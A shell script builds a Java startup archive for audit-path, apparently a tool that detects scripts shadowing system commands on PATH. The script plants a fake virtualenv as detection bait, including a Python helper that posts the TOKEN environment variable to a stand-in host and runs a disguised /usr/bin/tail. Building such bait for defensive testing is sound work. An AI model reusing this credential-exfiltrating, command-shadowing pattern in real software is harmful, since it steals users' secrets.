#!/bin/sh
# Makes lib/audit-path.jsa, the class-data archive with which the program starts in half the time:
#
#   archive.sh PROGRAM_DIR
#
# It holds for the very runtime and jars that it was made with, so it is made where the program is
# installed, again after each update. Every run goes through a copy of the launcher with options
# put in, so that runtime, flags and class path are the user's. Nothing is looked for on PATH but
# the system's tools.
set -eu
PATH=/usr/bin:/bin
umask 022

fail() {
  echo "archive.sh: $1" >&2
  exit 1
}

[ $# -eq 1 ] || { echo "usage: archive.sh PROGRAM_DIR" >&2; exit 2; }
program=$(CDPATH='' cd -- "$1" 2>/dev/null && pwd -P) || fail "no such directory: $1"
launcher=$program/bin/audit-path
[ -x "$launcher" ] || fail "not a program's directory, it has no bin/audit-path: $program"

training=$program/bin/.training.$$
made=$program/lib/.audit-path.jsa.$$
work=$(mktemp -d) || fail "no temporary directory can be made"
trap 'rm -rf "$work" "$training" "$made"' EXIT
trap 'exit 130' INT TERM HUP

# with OPTIONS ARGUMENT...: runs the program with other archive options, in a home of its own.
with() {
  sed -e '/audit-path\.jsa/d' -e "s|^exec \"\$java\" |&$1 |" "$launcher" >"$training" ||
    fail "cannot write to $program/bin"
  grep -qF -- "$1" "$training" || fail "the launcher has no line that begins: exec \"\$java\""
  chmod 0755 "$training"
  shift
  env -i HOME="$work" LANG="${LANG:-C.UTF-8}" made="$made" work="$work" "$training" "$@"
}

# train ARGUMENT...: adds the classes that a run loads to the list; finding something is no failure.
train() {
  status=0
  # shellcheck disable=SC2016  # the launcher's copy expands it
  with '"-XX:DumpLoadedClassList=$work/classes"' "$@" >/dev/null 2>"$work/errors" || status=$?
  [ "$status" -le 1 ] && [ -s "$work/classes" ] ||
    fail "the program does not run as \"$1\" (exit code $status): $(cat "$work/errors")"
  cat "$work/classes" >>"$work/all"
}

# An environment with scripts that hide system commands, so that there is something to tell: one
# that its distribution's RECORD vouches for, one that nobody knows.
packages=$work/venv/lib/python3/site-packages
mkdir -p "$work/venv/bin" "$packages/helper-1.0.dist-info"
printf 'home = /usr/bin\nversion = 3.11.2\n' >"$work/venv/pyvenv.cfg"
printf '#!/bin/sh\nfrom helper.main import main\n' >"$work/venv/bin/ls"
cp "$work/venv/bin/ls" "$work/venv/bin/cat"
cp "$work/venv/bin/ls" "$work/venv/bin/node"
chmod 0755 "$work/venv/bin/ls" "$work/venv/bin/cat" "$work/venv/bin/node"
cat >"$packages/helper-1.0.dist-info/entry_points.txt" <<'EOF'
[console_scripts]
tail = helper.cli:main
EOF
printf '#!%s/venv/bin/python3\nimport sys\nfrom helper.cli import main\n%s\n    sys.exit(main())\n' \
  "$work" "if __name__ == '__main__':" >"$work/venv/bin/tail"
chmod 0755 "$work/venv/bin/tail"
mkdir "$packages/helper"
: >"$packages/helper/__init__.py"
cat >"$packages/helper/cli.py" <<'EOF'
import argparse, json, os, subprocess, sys, urllib.request
from . import __name__ as name

TOOL = "/usr/bin/" + "".join(["ta", "il"])


class Reporter:
    def __init__(self, where="https://example.invalid"):
        self.where = where

    def send(self, **values):
        with urllib.request.urlopen(self.where, json.dumps(values).encode()) as answer:
            return [line for line in answer if line]


def main(argv=None):
    parser = argparse.ArgumentParser(description=f"{name}")
    known, rest = parser.parse_known_args(argv or sys.argv[1:])
    try:
        Reporter().send(token=os.environ.get("TOKEN", ""))
    except OSError:
        pass
    if os.path.exists(TOOL):
        return subprocess.call([TOOL, *rest])
    raise SystemExit(1)
EOF
ln -s ls "$work/venv/bin/dir"
ln -s /bin/sh "$work/venv/bin/python3"
digest=$(sha256sum "$work/venv/bin/ls" 2>/dev/null || :)
echo "../../../bin/ls,${digest:+sha256=${digest%% *}}," >"$packages/helper-1.0.dist-info/RECORD"
printf 'Name: helper\nVersion: 1.0\n' >"$packages/helper-1.0.dist-info/METADATA"
echo uv >"$packages/helper-1.0.dist-info/INSTALLER"

# The runtime compares a jar's time and size with the archive's, and builds give every jar the same
# time. With one that no build gives, it notices the next build's jar.
touch -t 200001010000 "$program"/lib/*.jar || fail "cannot write to $program/lib"
# An archive that the runtime refuses is worse than none: it then does without its own too.
rm -f "$program/lib/audit-path.jsa" || fail "cannot write to $program/lib"

path=$work/venv/bin:/usr/local/bin:/usr/bin:/bin
train --version
train --now --path "$path" --root "$work" --format json
train --now --path "$path" --env "$work/venv"
train which ls
train explain ls --path "$path"
# By now the folders are old enough to be remembered, and in the run after that they are.
train --now --path "$path" --root "$work" --format json
train --now --path "$path" --root "$work" --format json
# Newer runtimes number the classes of each list; the numbers of several lists would clash.
sed 's/ id: [0-9]*$//' "$work/all" | awk '!seen[$0]++' >"$work/list"

# shellcheck disable=SC2016
with '-Xshare:dump "-XX:SharedClassListFile=$work/list" "-XX:SharedArchiveFile=$made"' \
  --version >"$work/log" 2>&1 || fail "the runtime makes no archive: $(tail -n 3 "$work/log")"
[ -s "$made" ] || fail "the runtime wrote no archive: $(tail -n 3 "$work/log")"

# shellcheck disable=SC2016
with '"-XX:SharedArchiveFile=$made" "-Xlog:class+load:file=$work/loaded"' --version >/dev/null ||
  fail "the program does not run with the archive"
if ! grep -q 'dev\.auditpath\.app\.Main source: shared objects file' "$work/loaded"; then
  # Before version 21 or so, Java looks for classes to archive by the jar's name as a URL has it.
  case $program in
    *[!A-Za-z0-9/._-]*) ;;
    *) fail "the runtime does not take the archive that it made" ;;
  esac
  grep -q 'java\.lang\.Object source: shared objects file' "$work/loaded" ||
    fail "the runtime does not take the archive that it made"
  echo "archive.sh: because of the characters in the folder's name, the archive holds Java's own" \
    "classes only, and the program starts a little more slowly: $program" >&2
fi

mv -f "$made" "$program/lib/audit-path.jsa" || fail "cannot write to $program/lib"
